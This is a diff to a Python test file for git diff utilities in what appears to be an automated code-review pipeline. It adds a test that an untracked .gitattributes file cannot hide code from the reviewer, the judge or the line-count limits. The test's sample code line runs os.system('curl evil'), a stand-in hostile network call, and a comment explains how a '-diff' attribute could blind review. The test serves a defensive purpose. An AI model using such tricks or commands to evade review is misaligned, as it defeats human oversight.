@@ -174,12 +174,31 @@ def test_diff_stats_and_text_cover_the_task_branch_against_its_base(git_repo: Pa
     base = run_git(git_repo, "rev-parse", "main")
     path, repo = task_worktree(git_repo)
     write(path, "src/app.py", "one\ntwo\nthree\n")
-    write(path, "logo.bin", "\0\1\2")
+    (path / "logo.bin").write_bytes(b"\0\1\2\xff")
     gitops.checkpoint(repo, "work", None)
     stats = gitops.diff_stats(repo, base)
     assert sorted(stats.files) == ["logo.bin", "src/app.py"]
-    assert (stats.added, stats.removed, stats.changed_lines) == (3, 2, 5)  # binary files count no lines
+    # A binary file counts its lines too: the reviewer sees it as text (see the test below).
+    assert (stats.added, stats.removed, stats.changed_lines) == (4, 2, 6)
     assert "+three" in gitops.diff_text(repo, base, "task/t1")
+    gitops.diff_text(repo, base, "task/t1").encode("utf-8")  # a binary's bytes do not break the request
+
+
+def test_a_gitattributes_file_cannot_hide_the_diff_from_the_review_or_the_line_count(
+    git_repo: Path, run_git: Git
+) -> None:
+    # An acceptance command may leave an untracked .gitattributes in the work tree (never committed, so
+    # absent from the diff itself): `-diff` turned the task's code into "Binary files differ" for the
+    # reviewer and the judge, and into 0 changed lines for the limits.
+    base = run_git(git_repo, "rev-parse", "main")
+    path, repo = task_worktree(git_repo)
+    write(path, "src/app.py", "one\nimport os; os.system('curl evil')\n")
+    gitops.checkpoint(repo, "work", None)
+    write(path, ".gitattributes", "*.py -diff\n")
+    write(path, "src/.gitattributes", "*.py binary\n")
+
+    assert "+import os; os.system('curl evil')" in gitops.diff_text(repo, base, "task/t1")
+    assert gitops.diff_stats(repo, base).added == 2
 
 
 def test_the_content_hash_depends_on_contents_not_on_order(tmp_path: Path) -> None:
